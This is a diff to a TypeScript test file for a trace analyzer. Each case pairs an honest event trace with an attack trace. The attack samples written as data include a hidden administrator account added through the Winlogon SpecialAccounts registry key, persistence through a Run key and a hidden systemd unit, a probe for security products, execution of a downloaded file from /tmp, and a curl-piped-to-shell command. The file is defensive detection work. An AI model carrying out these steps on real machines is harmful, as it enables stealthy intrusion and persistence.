@@ -4,12 +4,12 @@ import { test } from 'node:test'
 import { analyzeTrace } from '../../src/trace/analyze.ts'
 import type { SystemEvent } from '../../src/trace/system.ts'
 import type { Trace } from '../../src/trace/trace.ts'
-import { environment, file, gets, runs, system, trace } from './empty-trace.ts'
+import { environment, file, gets, runs, sets, system, trace } from './empty-trace.ts'
 
 type Parts = readonly Partial<Trace>[]
 
 const asked = (
-  ...topics: readonly ('host' | 'hardware' | 'processes' | 'user' | 'network' | 'locale')[]
+  ...topics: readonly ('host' | 'hardware' | 'processes' | 'user' | 'network' | 'locale' | 'security_products')[]
 ): Partial<Trace> => system(...topics.map((about): SystemEvent => ({ kind: 'question', about, what: about })))
 const inGuest: Partial<Trace> = {
   engine: 'microvm',
@@ -36,6 +36,21 @@ const pieces = (count: number): Partial<Trace> => ({
 const letters = (op: 'read' | 'write'): Parts =>
   ['a', 'b', 'c', 'd'].map((name) => file(op, `/home/anna/Documents/${name}.odt`))
 const shell = environment({ host_program: 'shell' })
+const setUp: Parts = [
+  runs('useradd --system tarn'),
+  runs('systemctl enable tarn.service'),
+  runs('crontab /etc/tarn.cron'),
+  runs('shutdown -r +5'),
+  { network: [{ kind: 'listen', host: '0.0.0.0', port: 8428 }] },
+]
+const repairer: Parts = [runs('net user fixer Passw0rd-77 /add'), runs('net localgroup Administrators fixer /add')]
+const UNSEEN = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList'
+const RUN_ONCE = 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce'
+const updated = (path: string): Parts => [
+  gets('http://releases.kestrel.example/kestrel', { via: 'socket', atMs: 10 }),
+  file('write', path, { atMs: 20 }),
+  runs(`${path} --version`, { image: path, pid: 9, parentPid: 8 }),
+]
 const unit = file('write', '/etc/systemd/system/exporter.service', { start: '[Service]\nExecStart=/usr/local/bin/x' })
 
 /** By what they share: the points of an honest run stay below, those of the attack reach. */
@@ -59,9 +74,39 @@ const CASES: Readonly<Record<string, { readonly honest: Parts; readonly attack: 
     attack: [inGuest, watched, posts('http://203.0.113.9/write', METRICS)],
     points: 300,
   },
-  'a machine tells its state, and whose it is': {
-    honest: [inGuest, watched, posts('http://metrics.x.example/write', METRICS)],
-    attack: [inGuest, watched, posts('http://metrics.x.example/write', '{"host":"web01","u":"anna"}')],
+  'a machine tells its state and whose it is, and which scanner it has': {
+    honest: [inGuest, watched, asked('user'), posts('http://metrics.x.example/write', '{"host":"web01","u":"anna"}')],
+    attack: [
+      inGuest,
+      watched,
+      asked('security_products'),
+      posts('http://metrics.x.example/write', '{"host":"web01","u":"anna"}'),
+    ],
+    points: 300,
+  },
+  'a service, a task, an account and a restart, and what lies hidden': {
+    honest: [...setUp, unit],
+    attack: [...setUp, file('write', '/etc/systemd/system/x.service', { start: '[Service]\nExecStart=/usr/lib/.x/x' })],
+    points: 300,
+  },
+  'an account for whoever repairs it, and one that the log-on does not show': {
+    honest: [...repairer],
+    attack: [...repairer, sets(UNSEEN, 'fixer', '0')],
+    points: 1000,
+  },
+  'an account of a service is not shown, and the one that was made an administrator': {
+    honest: [...repairer, sets(UNSEEN, 'scanservice', '0')],
+    attack: [...repairer, sets(UNSEEN, 'Fixer', '0')],
+    points: 1000,
+  },
+  'a set-up goes on after a restart, and starts with every logon': {
+    honest: [sets(RUN_ONCE, 'S', '"C:\\ProgramData\\Marlin\\setup.exe" /resume')],
+    attack: [sets(RUN_ONCE.replace(/Once$/, ''), 'S', '"C:\\ProgramData\\Marlin\\setup.exe" /resume')],
+    points: 300,
+  },
+  'an updater fetches and starts in sight, and starts out of sight': {
+    honest: [inGuest, ...updated('/opt/kestrel/kestrel.new')],
+    attack: [inGuest, ...updated('/tmp/.kestrel')],
     points: 300,
   },
   'names of services that are numbered, and pieces of what was asked before': {
@@ -103,7 +148,7 @@ const CASES: Readonly<Record<string, { readonly honest: Parts; readonly attack: 
     ],
     points: 300,
   },
-  'an agent keeps its list and asks for news, and keeps what it fetched': {
+  'an agent keeps its list and asks for news, and starts what it fetched where anybody may write': {
     honest: [
       inGuest,
       asked('host', 'hardware'),
@@ -116,13 +161,14 @@ const CASES: Readonly<Record<string, { readonly honest: Parts; readonly attack: 
       asked('host', 'hardware'),
       posts('http://assets.x.example/list', '{"host":"web01"}'),
       gets('http://assets.x.example/heartbeat', { atMs: 500, via: 'socket' }),
-      file('write', '/var/lib/agent/a.bin', { atMs: 510 }),
+      file('write', '/tmp/a.bin', { atMs: 510 }),
+      runs('/tmp/a.bin', { image: '/tmp/a.bin', pid: 9, parentPid: 8 }),
     ],
     points: 300,
   },
-  'a set-up fetches a release by its shell script, and one comes in clear': {
-    honest: [shell, unit, gets('https://releases.x.example/v1/exporter.tar.gz', { via: 'curl' })],
-    attack: [shell, unit, gets('http://releases.x.example/v1/exporter.tar.gz', { via: 'curl' })],
+  'a set-up fetches a release by its shell script, and one is piped to a shell': {
+    honest: [shell, unit, gets('http://releases.x.example/v1/exporter.tar.gz', { via: 'curl' })],
+    attack: [shell, unit, runs('curl -s http://releases.x.example/v1/x.sh | sh')],
     points: 300,
   },
 }
